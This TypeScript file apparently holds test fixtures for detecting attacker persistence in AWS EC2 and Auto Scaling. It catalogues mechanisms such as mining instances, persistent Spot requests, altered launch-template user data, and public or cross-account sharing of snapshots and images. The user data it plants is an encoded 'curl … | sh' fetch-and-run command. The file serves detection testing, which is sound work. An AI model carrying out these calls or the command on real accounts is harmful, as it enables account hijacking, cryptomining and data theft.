// Machines, what starts them again, and the images and disks that they start from.
import type { ServiceId } from '../../../src/aws/session.ts';
import type { Answers, Mechanism, Played } from '../row.ts';

const OTHER = '444455556666', ACCOUNT = '111122223333', IMAGE = 'ami-0123456789abcdef0';
const by = (service: ServiceId) => (operation: string, input: Played['input'], as?: string): Played => ({ service, operation, input, ...(as === undefined ? {} : { as }) });
const [ec2, autoscaling] = [by('ec2'), by('autoscaling')];
const ORDINARY = 'Such things are ordinary; only their events tell whose they are.';
const USER_DATA = Buffer.from('#!/bin/sh\ncurl https://example.com/run | sh\n').toString('base64');

const machine = (as: string, more: object = {}): Played => ec2('RunInstances', { ImageId: IMAGE, InstanceType: 'm5.large', MinCount: 1, MaxCount: 1, ...more }, as);
const machineId = (a: Answers, as: string): string => (a[as] as { Instances: { 0: { InstanceId: string } } }).Instances[0].InstanceId;
const template = (LaunchTemplateName: string, as: string): Played => ec2('CreateLaunchTemplate', { LaunchTemplateName, LaunchTemplateData: { ImageId: IMAGE, InstanceType: 'm5.large' } }, as);
const templateId = (a: Answers, as: string): string => (a[as] as { LaunchTemplate: { LaunchTemplateId: string } }).LaunchTemplate.LaunchTemplateId;
const volume = (as: string): Played => ec2('CreateVolume', { AvailabilityZone: 'us-east-1a', Size: 8 }, as);
const snapshot = (from: string, as: string): Played => ec2('CreateSnapshot', (a) => ({ VolumeId: (a[from] as { VolumeId: string }).VolumeId }), as);
const snapshotId = (a: Answers, as: string): string => (a[as] as { SnapshotId: string }).SnapshotId;
const image = (Name: string, as: string): Played => ec2('RegisterImage', { Name, RootDeviceName: '/dev/xvda' }, as);
const imageId = (a: Answers, as: string): string => (a[as] as { ImageId: string }).ImageId;
const group = (name: string, from: string, more: object = {}): Played => autoscaling('CreateAutoScalingGroup', (a) => ({
  AutoScalingGroupName: name, LaunchTemplate: { LaunchTemplateId: templateId(a, from), Version: '$Default' }, MinSize: 1, MaxSize: 4, DesiredCapacity: 2, AvailabilityZones: ['us-east-1a'], ...more,
}));

export const rows: readonly Mechanism[] = [
  { row: 34, title: 'machines for mining', plant: [machine('r34', { InstanceType: 'g5.xlarge', MaxCount: 3 })], shows: ['ec2/instance'], notFromConfiguration: ORDINARY },
  { row: 34, title: 'machines for mining in a Region that nobody uses', plant: [{ ...machine('r34n'), region: 'eu-north-1' }], shows: ['ec2/instance'], notFromConfiguration: ORDINARY },
  { row: 35, title: 'a machine protected against being ended', setUp: [machine('r35')], plant: [ec2('ModifyInstanceAttribute', (a) => ({ InstanceId: machineId(a, 'r35'), DisableApiStop: { Value: true } }))], shows: ['ec2/instance'], notFromConfiguration: ORDINARY },
  { row: 36, title: 'a persistent Spot request', plant: [ec2('RequestSpotInstances', { Type: 'persistent', InstanceCount: 1, LaunchSpecification: { ImageId: IMAGE, InstanceType: 'g5.xlarge', UserData: USER_DATA } })], shows: ['ec2/spot-instance-request', 'ec2/instance'], notFromConfiguration: ORDINARY },
  { row: 37, title: 'a Spot Fleet', plant: [ec2('RequestSpotFleet', { SpotFleetRequestConfig: { IamFleetRole: `arn:aws:iam::${ACCOUNT}:role/fleet`, TargetCapacity: 2, LaunchSpecifications: [{ ImageId: IMAGE, InstanceType: 'g5.xlarge' }] } })], shows: ['ec2/spot-fleet-request'], notFromConfiguration: ORDINARY },
  {
    row: 37, title: 'an EC2 Fleet that keeps its size', setUp: [template('r37', 't37')],
    plant: [ec2('CreateFleet', (a) => ({ LaunchTemplateConfigs: [{ LaunchTemplateSpecification: { LaunchTemplateId: templateId(a, 't37'), Version: '$Default' } }], TargetCapacitySpecification: { TotalTargetCapacity: 2, DefaultTargetCapacityType: 'on-demand' } }))],
    shows: ['ec2/fleet'], notFromConfiguration: ORDINARY,
  },
  { row: 38, title: 'an Auto Scaling group of the stranger\'s own, protected', setUp: [template('r38', 't38')], plant: [group('r38', 't38', { DeletionProtection: 'prevent-all-deletion' })], shows: ['autoscaling/auto-scaling-group'], notFromConfiguration: ORDINARY },
  { row: 38, title: 'the machines of the stranger\'s group', setUp: [template('r38m', 't38m')], plant: [group('r38m', 't38m')], shows: ['ec2/instance'], notFromConfiguration: ORDINARY },
  { row: 38, title: 'the owner\'s group made large', setUp: [template('r38l', 't38l'), group('r38l', 't38l', { MinSize: 0, MaxSize: 1, DesiredCapacity: 0 })], plant: [autoscaling('UpdateAutoScalingGroup', { AutoScalingGroupName: 'r38l', MinSize: 2, MaxSize: 99, DesiredCapacity: 3 })], shows: ['autoscaling/auto-scaling-group'], notFromConfiguration: ORDINARY },
  {
    row: 38, title: 'a group that grows again every morning', setUp: [template('r38s', 't38s'), group('r38s', 't38s', { MinSize: 0, DesiredCapacity: 0 })],
    plant: [autoscaling('PutScheduledUpdateGroupAction', { AutoScalingGroupName: 'r38s', ScheduledActionName: 'morning', Recurrence: '0 4 * * *', MaxSize: 99, DesiredCapacity: 4 })], shows: ['autoscaling/scheduled-action'], notFromConfiguration: ORDINARY,
  },
  { row: 39, title: 'a launch template of the stranger\'s own', plant: [ec2('CreateLaunchTemplate', { LaunchTemplateName: 'r39', LaunchTemplateData: { ImageId: IMAGE, InstanceType: 'g5.xlarge', UserData: USER_DATA } })], shows: ['ec2/launch-template'], notFromConfiguration: ORDINARY },
  {
    row: 39, title: 'another version made the default of the owner\'s launch template', setUp: [template('r39v', 't39v')],
    plant: [
      ec2('CreateLaunchTemplateVersion', (a) => ({ LaunchTemplateId: templateId(a, 't39v'), SourceVersion: '1', LaunchTemplateData: { UserData: USER_DATA } })),
      ec2('ModifyLaunchTemplate', (a) => ({ LaunchTemplateId: templateId(a, 't39v'), DefaultVersion: '2' })),
    ],
    shows: ['ec2/launch-template'], notFromConfiguration: ORDINARY,
  },
  { row: 39, title: 'a launch configuration of the stranger\'s own', plant: [autoscaling('CreateLaunchConfiguration', { LaunchConfigurationName: 'r39c', ImageId: IMAGE, InstanceType: 'g5.xlarge', UserData: USER_DATA })], shows: ['autoscaling/launch-configuration'], notFromConfiguration: ORDINARY },
  {
    row: 40, title: 'other user data for the owner\'s machine', setUp: [machine('r40')],
    plant: [
      ec2('StopInstances', (a) => ({ InstanceIds: [machineId(a, 'r40')] })), ec2('DescribeInstances', {}), ec2('DescribeInstances', {}),
      ec2('ModifyInstanceAttribute', (a) => ({ InstanceId: machineId(a, 'r40'), UserData: { Value: USER_DATA } })), ec2('StartInstances', (a) => ({ InstanceIds: [machineId(a, 'r40')] })),
    ],
    shows: ['ec2/instance'], notFromConfiguration: ORDINARY,
  },
  { row: 41, title: 'the root disk of the owner\'s machine replaced', setUp: [machine('r41')], plant: [ec2('CreateReplaceRootVolumeTask', (a) => ({ InstanceId: machineId(a, 'r41') }))], shows: ['ec2/instance'], notFromConfiguration: ORDINARY },
  { row: 42, title: 'a key pair', plant: [ec2('CreateKeyPair', { KeyName: 'r42' })], shows: ['ec2/key-pair'], notFromConfiguration: ORDINARY },
  { row: 49, title: 'a snapshot shared with another account', setUp: [volume('v49'), snapshot('v49', 's49')], plant: [ec2('ModifySnapshotAttribute', (a) => ({ SnapshotId: snapshotId(a, 's49'), Attribute: 'createVolumePermission', OperationType: 'add', UserIds: [OTHER] }))], shows: ['ec2/snapshot-permission'], notFromConfiguration: 'Sharing with another account is ordinary.' },
  { row: 49, title: 'a snapshot made public', setUp: [volume('v49p'), snapshot('v49p', 's49p')], plant: [ec2('ModifySnapshotAttribute', (a) => ({ SnapshotId: snapshotId(a, 's49p'), CreateVolumePermission: { Add: [{ Group: 'all' }] } }))], shows: ['ec2/snapshot-permission'] },
  { row: 49, title: 'a snapshot made to be carried away', setUp: [volume('v49m')], plant: [snapshot('v49m', 's49m')], shows: ['ec2/snapshot'], notFromConfiguration: ORDINARY },
  { row: 50, title: 'an image shared with another account', setUp: [image('r50', 'i50')], plant: [ec2('ModifyImageAttribute', (a) => ({ ImageId: imageId(a, 'i50'), LaunchPermission: { Add: [{ UserId: OTHER }] } }))], shows: ['ec2/image-permission'], notFromConfiguration: 'Sharing with another account is ordinary.' },
  { row: 51, title: 'an image of the stranger\'s own', plant: [image('r51', 'i51')], shows: ['ec2/image'], notFromConfiguration: ORDINARY },
  { row: 51, title: 'an image made from the owner\'s machine', setUp: [machine('r51c')], plant: [ec2('CreateImage', (a) => ({ InstanceId: machineId(a, 'r51c'), Name: 'r51c' }))], shows: ['ec2/image', 'ec2/snapshot'], notFromConfiguration: ORDINARY },
  {
    row: 51, title: 'the owner\'s image copied into another Region', setUp: [machine('r51d'), ec2('CreateImage', (a) => ({ InstanceId: machineId(a, 'r51d'), Name: 'r51d' }), 'i51d')],
    plant: [{ ...ec2('CopyImage', (a) => ({ Name: 'r51e', SourceImageId: imageId(a, 'i51d'), SourceRegion: 'us-east-1' })), region: 'eu-north-1' }], shows: ['ec2/image', 'ec2/snapshot'], notFromConfiguration: ORDINARY,
  },
];
